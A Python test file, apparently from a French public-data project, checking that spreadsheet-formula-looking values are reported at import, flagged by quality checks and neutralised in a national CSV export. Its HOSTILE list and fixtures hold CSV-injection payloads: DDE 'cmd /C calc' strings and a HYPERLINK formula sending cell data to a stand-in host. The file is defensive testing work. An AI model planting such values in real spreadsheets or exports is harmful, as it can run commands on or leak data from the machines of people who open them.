"""Formula-looking values: reported at import, listed by the quality checks, inert in the
national export (loaders/spreadsheet_formulas.py states the rule)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from analytics.quality.data_quality import fix_first, formula_fields
from ingestion.dataset_import import ImportContext, ImportRequest, prepare_import
from ingestion.standard_export import SUMMARY_MAX, publishable_export, validate_standard_export
from loaders.bundle import load_bundle
from loaders.problems import WARNING
from loaders.spreadsheet_formulas import FORMULA_STARTS, formula_cells, inert_text, looks_like_formula
from tests.unit.actor_frames import actors, place

HOSTILE = [
    '=HYPERLINK("http://exemple.invalid/?q="&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def published(**values) -> dict:
    """A place the standard accepts (every required field), with `values` on top."""
    defaults = dict(
        pivot="21290232400010",
        code_postal="29000",
        adresse="1 rue A",
        latitude=47.996,
        longitude=-4.102,
        telephone="+33298000000",
        date_maj="2024-03-01",
    )
    return place(**(defaults | values))


@pytest.mark.parametrize("value", HOSTILE + ["=1", "-Lundi 9h-12h", "+33 2 98 00 00 00", "@bonjour"])
def test_formula_looking_texts(value):
    assert looks_like_formula(value)
    assert inert_text(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["+33298000000", "-4.102", "-12", "+5,5", "Espace numérique", "'=déjà neutralisé", "", "1-2"]
)
def test_plain_numbers_and_ordinary_texts_are_left_alone(value):
    assert not looks_like_formula(value)
    assert inert_text(value) == value


def test_numbers_are_never_formulas():
    assert not looks_like_formula(-4.102) and not looks_like_formula(-12) and not looks_like_formula(None)


def test_formula_cells_finds_texts_and_values_of_lists():
    frame = actors(
        place(id="a", nom="=1+1"),
        place(id="b", nom="Correct", courriels=["ok@exemple.fr", "@SUM(A1)"]),
        place(id="c", nom="Correct aussi"),
    )
    cells = formula_cells(frame)
    assert cells[["colonne", "valeur"]].values.tolist() == [["nom", "=1+1"], ["courriels", "@SUM(A1)"]]
    assert [frame.at[i, "id"] for i in cells["index"]] == ["a", "b"]


def test_the_national_export_opened_as_text_has_no_live_formula(territories):
    registry = actors(
        published(id="hub-1", nom=HOSTILE[0], adresse=HOSTILE[1], horaires=HOSTILE[2]),
        published(id="hub-2", nom=HOSTILE[3], presentation_resume=HOSTILE[4], site_web=[HOSTILE[5]]),
        published(id="hub-3", nom="Espace sans formule", presentation_resume="-" + "p" * (SUMMARY_MAX - 1)),
        published(id="hub-4", nom="Téléphone aux espaces", telephone="+33 2 98 00 00 00"),
    )
    export = publishable_export(registry)
    assert export.rows == 4

    rows = list(csv.reader(io.StringIO(export.text)))
    header, body = rows[0], rows[1:]
    live = [
        (r[0], column, cell)
        for r in body
        for column, cell in zip(header, r)
        if cell.startswith(FORMULA_STARTS) and looks_like_formula(cell)
    ]
    assert live == []
    cells = {(r[header.index("id")], column): cell for r in body for column, cell in zip(header, r)}
    assert cells[("hub-1", "nom")] == "'" + HOSTILE[0]
    assert cells[("hub-1", "adresse")] == "'" + HOSTILE[1]
    assert cells[("hub-1", "horaires")] == "'" + HOSTILE[2]
    assert cells[("hub-2", "nom")] == "'" + HOSTILE[3]
    assert cells[("hub-2", "site_web")] == "'\n=1+1"  # one kind of line break in the file, and inert
    # What a spreadsheet reads as a number stays as the standard writes it.
    assert cells[("hub-1", "telephone")] == "+33298000000" and cells[("hub-1", "longitude")] == "-4.102"
    # The summary starting with "-" is cut so that, with its apostrophe, it keeps to the limit.
    assert (
        cells[("hub-3", "presentation_resume")].startswith("'-")
        and len(cells[("hub-3", "presentation_resume")]) == SUMMARY_MAX
    )
    # The phone with spaces is not the standard's and is left out (as before).
    assert cells[("hub-4", "telephone")] == ""

    adjusted = export.adjusted[export.adjusted["raison"].str.contains("formule")]
    assert sorted(map(tuple, adjusted[["id", "colonne"]].values.tolist())) == [
        ("hub-1", "adresse"),
        ("hub-1", "horaires"),
        ("hub-1", "nom"),
        ("hub-2", "nom"),
        ("hub-2", "presentation_resume"),
        ("hub-2", "site_web"),
        ("hub-3", "presentation_resume"),
    ]
    # Still a valid file of the national standard, with nothing left to warn about.
    assert validate_standard_export(export.text, territories) == []


def test_the_standard_validation_warns_about_a_live_formula(territories):
    text = publishable_export(actors(published(id="hub-1", nom="Espace"))).text.replace("Espace", "=HYPERLINK(1)")
    problems = validate_standard_export(text, territories)
    formula = [p for p in problems if "formule" in p.message]
    assert [(p.severity, p.line, p.column, p.value) for p in formula] == [(WARNING, 2, "nom", "=HYPERLINK(1)")]
    # A bare carriage return outside quotes is reported, not raised.
    broken = validate_standard_export(text.replace("=HYPERLINK(1)", "Espace\rnumérique"), territories)
    assert [p.message for p in broken] == [
        "CSV illisible : un retour chariot ou un guillemet hors d'une cellule entre guillemets"
    ]


def test_the_import_report_lists_formula_looking_values(hub_config):
    context = ImportContext.from_bundle(load_bundle(hub_config))
    milestones = (
        "id_jalon,action,titre,date_prevue,date_reelle,statut\n"
        f'J01,GESTION,"{HOSTILE[0].replace(chr(34), chr(34) * 2)}",2022-04-26,2022-04-26,atteint\n'
        "J02,A2,Première version de la base régionale,2022-12-15,,en_cours\n"
        "J03,A2,-Réunion des partenaires,2023-01-15,,en_cours\n"
    ).encode()
    preview = prepare_import(ImportRequest("jalons", milestones, "jalons.csv"), context)
    assert not preview.refused and preview.rows_rejected == 0 and not preview.needs_acceptance
    found = [(p.severity, p.line, p.column, p.value) for p in preview.problems if "formule de tableur" in p.message]
    assert found == [(WARNING, 2, "titre", HOSTILE[0]), (WARNING, 4, "titre", "-Réunion des partenaires")]
    # The data keeps the value as the file gave it.
    assert preview.frame.loc[preview.frame["id_jalon"] == "J01", "titre"].iloc[0] == HOSTILE[0]


def test_the_import_report_lists_a_formula_looking_name_of_a_place(hub_config):
    context = ImportContext.from_bundle(load_bundle(hub_config))
    places = (
        "id,nom,commune,code_postal,code_insee,adresse,latitude,longitude,date_maj,services,telephone\n"
        "hub-9001,@SUM(1+1)*cmd|' /C calc'!A0,Rennes,35200,35238,+cmd|' /C calc'!A0,48.0880,-1.6570,2024-03-01,"
        "Aide aux démarches administratives,+33299000000\n"
    ).encode()
    preview = prepare_import(ImportRequest("acteurs", places, "lieux.csv"), context)
    assert not preview.refused
    found = {(p.line, p.column) for p in preview.problems if p.severity == WARNING and "formule" in p.message}
    assert found == {(2, "nom"), (2, "adresse")}  # the phone +33… and the coordinates are not reported


def test_the_quality_checks_flag_the_places_with_formula_fields():
    registry = actors(
        published(id="hub-1", nom="=HYPERLINK(1)", adresse="+cmd|' /C calc'!A0"),
        published(id="hub-2", nom="Correct"),
        published(id="hub-3", nom="Correct", horaires="@SUM(1)"),
    )
    fields = formula_fields(registry)
    assert fields.values.tolist() == [
        ["hub-1", "=HYPERLINK(1)", "nom", "=HYPERLINK(1)"],
        ["hub-1", "=HYPERLINK(1)", "adresse", "+cmd|' /C calc'!A0"],
        ["hub-3", "Correct", "horaires", "@SUM(1)"],
    ]
    fix = fix_first(registry, dt.date(2024, 6, 1)).set_index("critere")
    assert fix.at["formules", "nombre"] == 2 and fix.at["formules", "exemples"] == ["hub-1", "hub-3"]
    assert "formules de tableur" in fix.at["formules", "action"]
    clean = fix_first(actors(published(id="hub-2", nom="Correct")), dt.date(2024, 6, 1))
    assert "formules" not in set(clean["critere"])
